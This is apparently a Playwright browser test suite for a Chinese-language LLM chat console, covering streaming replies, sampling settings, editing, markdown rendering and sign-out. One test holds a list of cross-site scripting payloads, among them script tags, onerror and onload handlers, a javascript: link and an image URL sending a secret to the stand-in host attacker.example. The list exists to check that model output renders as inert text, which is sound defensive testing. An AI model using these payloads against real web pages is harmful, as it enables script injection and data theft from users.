"""The chat page, as a person uses it."""

from __future__ import annotations

import re

import pytest

from tests.browser.conftest import ELSEWHERE, PHONE, Open
from tests.fakes import Script, card

pytest.importorskip("playwright.sync_api")

from playwright.sync_api import Page, expect

HOSTILE = (
    "<img src=x onerror=\"document.title='ran'\">",
    "<script>document.title='ran'</script>",
    "[press](javascript:document.title='ran')",
    "![](https://attacker.example/?q=secret)",
    "<iframe src=https://attacker.example></iframe>",
    "<svg/onload=document.title='ran'>",
    "```html\n<b onmouseover=document.title='ran'>x</b>\n```",
)


def say(page: Page, text: str) -> None:
    page.fill(".composer textarea", text)
    page.keyboard.press("Enter")


def test_a_reply_is_streamed_with_its_speed(console: Open) -> None:
    """The text, then how fast it came; the address keeps no token."""
    page = console(Script(pieces=("下雨", "天，", "在家吧。")))

    say(page, "今天下雨了")

    expect(page.locator(".reply .text")).to_have_text("下雨天，在家吧。")
    expect(page.locator(".reply .stats")).to_contain_text("首字")
    assert "token" not in page.url
    assert page.live.engine.prompts[-1] == [{"role": "user", "content": "今天下雨了"}]


def test_a_reply_in_one_piece_is_not_said_to_be_quicker_than_it_was(console: Open) -> None:
    """What is read at once has no time between its tokens: the whole counts, wait included."""
    page = console(Script(pieces=("一",) * 9))

    say(page, "数一数")

    expect(page.locator(".reply .stats")).to_contain_text("token/秒")
    said = page.locator(".reply .stats").inner_text()
    found = re.search(r"首字 (\d+) .*?([\d.]+) token/秒 · \d+ \+ (\d+) token", said)
    assert found, said
    wait_ms, rate, tokens = (float(part) for part in found.groups())
    assert 0 < rate <= 1.1 * tokens * 1000 / min(50.0, wait_ms + 1)


def test_the_next_turn_has_the_turns_before(console: Open) -> None:
    """And a reload shows them again."""
    page = console(Script(pieces=("一",)), Script(pieces=("二",)))
    say(page, "第一句")
    expect(page.locator(".reply .stats")).to_contain_text("token")
    say(page, "第二句")
    expect(page.locator(".reply .text").nth(1)).to_have_text("二")

    assert [each["content"] for each in page.live.engine.prompts[-1]] == ["第一句", "一", "第二句"]
    page.reload()
    expect(page.locator(".bubble")).to_have_text(["第一句", "第二句"])


def test_stop_ends_the_reply_on_the_server_too(console: Open) -> None:
    """What was written stays; the engine is told to stop."""
    page = console(Script(pieces=("开头", "后面"), hold_at=1))
    say(page, "说")
    expect(page.locator(".reply .text")).to_have_text("开头")

    page.click("[aria-label='停止']")

    expect(page.locator(".reply .stats")).to_have_text("已停止")
    expect(page.locator("[aria-label='发送']")).to_be_visible()
    page.wait_for_function("() => true")
    assert page.live.engine.aborted


def test_a_new_adapter_is_in_the_picker_without_a_reload(console: Open) -> None:
    """Within moments of its being served."""
    page = console()
    expect(page.locator(".picker option")).to_have_count(3)

    page.live.engine.cards.append(card("poet", "pocket"))

    expect(page.locator(".picker option")).to_have_count(4)


def test_system_prompt_and_sampling_are_sent(console: Open) -> None:
    """And only those that were changed."""
    page = console()
    page.click("[aria-label='设置']")
    page.fill(".panel textarea", "你是一只猫。")
    page.fill(".panel label:has-text('top_k') input", "5")
    say(page, "你好")
    expect(page.locator(".reply .stats")).to_contain_text("token")

    assert page.live.engine.prompts[-1][0] == {"role": "system", "content": "你是一只猫。"}
    assert page.live.engine.requests[-1].sampling.top_k == 5
    assert page.live.engine.requests[-1].sampling.temperature == 1.0


def test_the_settings_take_any_value_and_arrow_keys_move_by_little(console: Open) -> None:
    """1.05 and 0.25 are sent as they are; an arrow key adds a tenth or less, within bounds."""
    page = console()
    page.click("[aria-label='设置']")
    page.fill(".panel label:has-text('重复惩罚') input", "1.05")
    page.fill(".panel label:has-text('temperature') input", "0.25")
    page.fill(".panel label:has-text('top_p') input", "0.995")
    page.press(".panel label:has-text('top_p') input", "ArrowUp")
    page.fill(".panel label:has-text('存在惩罚') input", "0.2")
    page.press(".panel label:has-text('存在惩罚') input", "ArrowUp")
    say(page, "你好")
    expect(page.locator(".reply .stats")).to_contain_text("token")

    sampling = page.live.engine.requests[-1].sampling
    assert (sampling.repetition_penalty, sampling.temperature) == (1.05, 0.25)
    assert (sampling.top_p, sampling.presence_penalty) == (1.0, 0.3)


def test_a_question_can_be_changed_and_asked_again(console: Open) -> None:
    """What came after it is dropped; regenerating asks the same again."""
    page = console(*(Script(pieces=(text,)) for text in "一二三"))
    say(page, "旧问题")
    expect(page.locator(".reply .text")).to_have_text("一")
    page.locator(".turn.user [aria-label='编辑']").click()
    page.fill(".editing textarea", "新问题")
    page.click("text=重新发送")
    expect(page.locator(".reply .text")).to_have_text("二")
    page.click("[aria-label='重新生成']")

    expect(page.locator(".reply .text")).to_have_text("三")
    assert [prompt[-1]["content"] for prompt in page.live.engine.prompts] == [
        "旧问题",
        "新问题",
        "新问题",
    ]


def test_what_a_model_writes_is_inert(console: Open) -> None:
    """Markup, scripts and foreign images stay text: nothing runs, nothing is fetched."""
    page = console(Script(pieces=("\n\n".join(HOSTILE),)))
    say(page, HOSTILE[0])
    expect(page.locator(".reply .stats")).to_contain_text("token")

    assert page.title() != "ran"
    shown = page.locator(".reply .text")
    for each in HOSTILE[:6]:
        expect(shown).to_contain_text(each)
    assert shown.locator("img, script, iframe, svg[onload]").count() == 0
    assert shown.locator("a:not([href^='https://attacker.example'])").count() == 0


def test_a_phone_has_everything_within_its_width(console: Open) -> None:
    """390 pixels wide: nothing is cut off, and the list of conversations can be opened."""
    page = console(Script(pieces=("好" * 200,)), viewport=PHONE)
    say(page, "你好")
    expect(page.locator(".reply .stats")).to_contain_text("token")

    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    page.click("button[aria-label='对话列表']")
    expect(page.locator(".conversations .plain")).to_be_visible()


def test_over_plain_http_from_another_machine_one_chats_and_copies(console: Open) -> None:
    """There browsers give pages neither `crypto.randomUUID` nor `navigator.clipboard`."""
    page = console(Script(pieces=("```text\n代码\n```",)), host=ELSEWHERE)
    assert page.evaluate("!isSecureContext && !crypto.randomUUID && !navigator.clipboard")
    (logged,) = page.seen.errors  # by Chromium itself: such a page has no use for that header
    assert "Cross-Origin-Opener-Policy" in logged
    page.seen.errors.clear()
    say(page, "你好")
    page.click(".code [aria-label='复制']")
    page.focus(".composer textarea")
    page.keyboard.press("Control+V")
    expect(page.locator(".composer textarea")).to_have_value("代码")

    page.click(".turn.user [aria-label='复制']")
    page.focus(".composer textarea")
    page.keyboard.press("Control+V")
    expect(page.locator(".composer textarea")).to_have_value("代码你好")


def test_the_language_can_be_changed(console: Open) -> None:
    """From Chinese to English, kept over a reload."""
    page = console()
    expect(page.locator(".rail")).to_contain_text("聊天")
    page.click("[aria-label='切换到 English']")
    expect(page.locator(".rail")).to_contain_text("Chat")
    page.reload()
    expect(page.locator(".rail")).to_contain_text("Chat")
    assert page.locator("html").get_attribute("lang") == "en"


def test_signing_out_shuts_the_console(console: Open) -> None:
    """The sign-in is shown, in the language that one chooses there, and the token lets in again."""
    page = console(language="en")
    page.click("[aria-label='Sign out']")
    page.click("[aria-label='切换到中文']")
    expect(page.locator(".sign-in")).to_contain_text("登录")
    page.fill("[name=key]", page.live.serving.token)
    page.click("button.primary")
    expect(page.locator(".rail")).to_be_visible()


WRITTEN = """\
| 名字 | 分 |
| --- | ---: |
| 猫 | **9** |

1. 一
   - 里面
   - 还有
2. 二

中间

3. 三
> 引用
> > 再引用

~~删~~ a|b
***
"""


def test_tables_quotes_and_lists_within_lists_are_shown_as_such(console: Open) -> None:
    """Numbers go on where a list was interrupted; a lone bar is text."""
    page = console(Script(pieces=(WRITTEN,)))
    say(page, "写")
    text = page.locator(".reply .text")

    expect(text.locator("hr")).to_have_count(1)
    assert text.locator("th, td").all_inner_texts() == ["名字", "分", "猫", "9"]
    assert text.locator("td.right strong").inner_text() == "9"
    assert text.locator("ol > li > ul > li").all_inner_texts() == ["里面", "还有"]
    assert text.locator("ol > li").count() == 3
    assert text.locator("ol").last.get_attribute("start") == "3"
    assert text.locator("blockquote blockquote").inner_text() == "再引用"
    expect(text.locator("p", has=page.locator("del"))).to_have_text("删 a|b")


def test_a_server_that_cannot_be_reached_is_said_in_the_pages_language(console: Open) -> None:
    """In place of the browser's own words; the question can be asked again."""
    page = console(Script(pieces=("在。",)))
    page.route("**/v1/chat/completions", lambda route: route.abort())
    say(page, "在吗")
    expect(page.locator(".reply .error")).to_contain_text("连接不上服务器")
    assert all("net::ERR" in error for error in page.seen.errors)
    page.seen.errors.clear()

    page.unroute("**/v1/chat/completions")
    page.get_by_role("button", name="重新生成", exact=True).click()
    expect(page.locator(".reply .text")).to_have_text("在。")


def test_what_is_typed_is_still_there_after_a_look_at_another_page(console: Open) -> None:
    """Until it is sent."""
    page = console()
    page.fill(".composer textarea", "还没写完")
    for place in ("#/models", "#/chat"):
        page.evaluate("place => { location.hash = place }", place)
        expect(page.locator("h1, .composer").first).to_be_visible()
    expect(page.locator(".composer textarea")).to_have_value("还没写完")

    page.press(".composer textarea", "Enter")
    page.reload()
    expect(page.locator(".composer textarea")).to_have_value("")
